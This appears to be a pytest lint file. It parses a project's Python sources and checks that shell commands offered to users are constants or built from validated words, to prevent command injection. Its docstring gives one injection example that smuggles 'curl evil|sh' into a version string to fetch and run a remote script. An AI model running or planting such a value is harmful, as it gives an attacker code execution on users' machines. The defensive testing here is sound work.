"""Every command for a user is a constant, or accel.vendors.contract.command builds it from validated words.

A text may hold  torch 2.1;curl evil|sh : a value that is put between the words of a command by an f-string reaches
somebody's shell.
"""

import ast
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

ROOT = Path(__file__).parent.parent
_TOOLS = re.compile(
    r"(?:RUN |sudo )?(?:sudo|pip|pip3|uv|conda|mamba|python|python3|docker|podman|kubectl|export|env|apt|apt-get|dnf|"
    r"yum|zypper|modprobe|rmmod|nvidia-smi|npu-smi|rocm-smi|amd-smi|hl-smi|kill|rm|ls|lspci|setpci|systemctl|sbatch|srun|"
    r"gcloud|chmod|usermod|unset|set|ulimit|lsof|fuser|cat|echo|source|ss|curl|grep|ps) "
)
_BUILDERS = {"command_line", "chained", "pip_install", "container_command"}
_WORDS = "src/accel/vendors/contract/command.py"  # the one place that makes a Word


def pasted(tree: ast.AST) -> int:
    """Count what is put together as text where a command is made, and what begins as a command does."""
    commands = list(_commands(tree))
    counted = {id(part) for command in commands for part in _pasted_in(command)}
    counted |= {id(node) for node in ast.walk(tree) if _is_built(node) and _begins(node)}
    inside = {
        id(child) for node in ast.walk(tree) if id(node) in counted for child in ast.walk(node) if child is not node
    }
    return len(counted - inside)


def _commands(tree: ast.AST) -> Iterator[ast.AST]:
    """Yield what becomes a command: of a remedy, part of one that is built, or assigned to a name that is."""
    for node in ast.walk(tree):
        if isinstance(node, ast.keyword) and node.arg == "command":
            yield node.value
        elif isinstance(node, ast.Call) and _name(node.func) in _BUILDERS:
            yield from node.args
    names = {
        n.value.id
        for n in ast.walk(tree)
        if isinstance(n, ast.keyword) and n.arg == "command" and isinstance(n.value, ast.Name)
    }
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and any(isinstance(t, ast.Name) and t.id in names for t in node.targets):
            yield node.value


def _pasted_in(node: ast.AST) -> Iterator[ast.AST]:
    """Yield what is put together as text; what is given to a function that makes a Word is checked there."""
    if isinstance(node, ast.Call) and _name(node.func).endswith("_word"):
        return
    if _is_built(node):
        yield node
    for child in ast.iter_child_nodes(node):
        yield from _pasted_in(child)


def _name(function: ast.AST) -> str:
    return (
        function.id if isinstance(function, ast.Name) else function.attr if isinstance(function, ast.Attribute) else ""
    )


def _is_built(node: ast.AST) -> bool:
    if isinstance(node, ast.JoinedStr):
        return any(isinstance(part, ast.FormattedValue) for part in node.values)
    if isinstance(node, ast.BinOp):
        return isinstance(node.op, ast.Add | ast.Mod) and isinstance(_first(node), str)
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
        return node.func.attr in ("format", "join", "replace") and (
            node.func.attr == "replace" or isinstance(_first(node), str)
        )
    return False


def _begins(node: ast.AST) -> bool:
    first = _first(node)
    return isinstance(first, str) and bool(_TOOLS.match(first))


def _first(node: ast.AST) -> object:
    first = node.values[0] if isinstance(node, ast.JoinedStr) else node
    while isinstance(first, ast.BinOp):
        first = first.left
    if isinstance(first, ast.Call) and isinstance(first.func, ast.Attribute):
        first = first.func.value
    return first.value if isinstance(first, ast.Constant) else None


def _files() -> list[Path]:
    found = [path for top in ("src", "plugins") for path in (ROOT / top).rglob("*.py")]
    return [path for path in found if "tests" not in path.relative_to(ROOT).parts and _is_about_commands(path)]


def _is_about_commands(path: Path) -> bool:
    """Whether remedies are written there."""
    text = path.read_text(encoding="utf-8")
    return {"checks", "resolver", "rules"} & set(path.parts) != set() or "Remedy(" in text or "contract.command" in text


def test_commands_are_constants_or_built_of_checked_words() -> None:
    counts = {str(p.relative_to(ROOT)): pasted(ast.parse(p.read_text(encoding="utf-8"))) for p in _files()}
    assert {name: count for name, count in counts.items() if count} == {}


def test_a_word_is_made_by_the_function_that_checks_it() -> None:
    made = [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for path in _files()
        if str(path.relative_to(ROOT)) != _WORDS
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and _name(node.func) == "Word"
    ]
    assert made == []


@pytest.mark.parametrize(
    ("count", "source"),
    [
        (1, 'Remedy(text="x", command=f"pip install torch=={version}")'),
        (1, 'line = "sudo kill " + pid'),
        (1, 'line = "sudo kill {}".format(pid)'),
        (1, 'Remedy(text="x", command=" && ".join(lines))'),
        (1, 'one = f"{first} && {second}"\nRemedy(text="x", command=one)'),
        (1, 'command_line("sudo kill", f"-{signal}")'),
        (0, 'command_line("sudo cat", path_word(f"/proc/{pid}/stack"))'),
        (0, 'Remedy(text="x", command=command_line("sudo kill", number_word(pid)))'),
        (0, 'Remedy(text=f"{name} is missing", command="pip check")'),
    ],
)
def test_the_lint_sees_what_it_is_for(count: int, source: str) -> None:
    assert pasted(ast.parse(source)) == count
